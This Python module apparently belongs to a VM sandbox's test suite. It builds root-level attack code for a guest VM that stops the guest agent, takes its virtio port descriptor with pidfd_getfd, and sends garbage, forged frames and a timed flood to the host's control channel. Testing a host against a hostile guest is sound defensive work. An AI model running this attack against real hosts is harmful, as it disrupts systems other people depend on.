"""What root inside a guest can do to the host's control channel (runs INSIDE the guest).

``attack_code(seconds)`` returns Python source for ``AgentExecutor.execute(code=...)``.
It forks a daemon and returns at once; the daemon stops the agent (SIGSTOP: init does not
restart a stopped agent), takes a duplicate of the agent's port descriptor
(``pidfd_getfd``), and writes to the host, in turn: garbage, a header announcing the
maximum length followed by silence, frames for request ids the host never sent, RESULT
frames for requests other than the host's, and then a flood of all of these at full
speed until ``seconds`` have passed. Standard library only; it needs root.
"""

from __future__ import annotations

import inspect


def _guest_attack(seconds: float) -> None:  # pragma: no cover
    import ctypes
    import json
    import os
    import pathlib
    import signal
    import struct
    import time
    import zlib

    magic, version = b"AVMP", 1
    max_payload = 1 << 20

    def frame(kind: int, rid: int, payload: bytes, length: int | None = None) -> bytes:
        size = len(payload) if length is None else length
        head = struct.pack(">4sBBHIII", magic, version, kind, 0, rid, size, 0)[:-4]
        head += struct.pack(">I", zlib.crc32(head))
        return head + payload + struct.pack(">I", zlib.crc32(payload))

    if os.fork():
        print("attack started", flush=True)
        return
    os.setsid()
    null = os.open("/dev/null", os.O_RDWR)
    for fd in (0, 1, 2):  # the command ends, and its RESULT reaches the host, at once
        os.dup2(null, fd)
    time.sleep(1.0)
    proc = pathlib.Path("/proc")
    init_cmdline = (proc / "1" / "cmdline").read_bytes()
    agent = None
    for entry in proc.iterdir():
        if not entry.name.isdigit() or entry.name == "1":
            continue
        try:  # the agent: forked by init (same command line), a child of init
            cmdline = (entry / "cmdline").read_bytes()
            ppid = (entry / "stat").read_text().rsplit(")", 1)[1].split()[1]
        except OSError:
            continue
        if cmdline == init_cmdline and ppid == "1":
            agent = int(entry.name)
    if agent is None:
        os._exit(2)
    port_fd = None
    for link in (proc / str(agent) / "fd").iterdir():
        if str(link.readlink()).startswith("/dev/vport"):
            port_fd = int(link.name)
    libc = ctypes.CDLL(None, use_errno=True)
    pidfd = libc.syscall(434, agent, 0)  # pidfd_open
    port = libc.syscall(438, pidfd, port_fd, 0)  # pidfd_getfd
    if port < 0:
        os._exit(3)
    os.kill(agent, signal.SIGSTOP)

    def send(data: bytes) -> None:
        view = memoryview(data)
        while view:
            view = view[os.write(port, view) :]

    result = json.dumps({"exit_code": 0, "signal": None, "timed_out": False, "duration": 0.0})
    send(os.urandom(65536))  # garbage
    send(frame(0x12, 1, b"", length=max_payload)[:20])  # a header, then silence
    time.sleep(3)
    send(os.urandom(max_payload + 4))  # the "payload" and its (wrong) CRC, then resync
    for rid in range(1000, 1100):  # request ids the host never sent
        send(frame(0x12, rid, b"not yours"))
        send(frame(0x14, rid, result.encode()))  # RESULT for a request of nobody
    deadline = time.monotonic() + seconds
    chunk = os.urandom(4096)
    burst = b"".join(frame(0x12, rid, b"x" * 60000) for rid in range(2000, 2016))
    while time.monotonic() < deadline:  # the flood
        send(burst)
        send(chunk)
        send(frame(0x14, 999999, result.encode()))
    os._exit(0)


def attack_code(seconds: float) -> str:
    source = inspect.getsource(_guest_attack)
    return f"from __future__ import annotations\n{source}\n_guest_attack({seconds!r})\n"
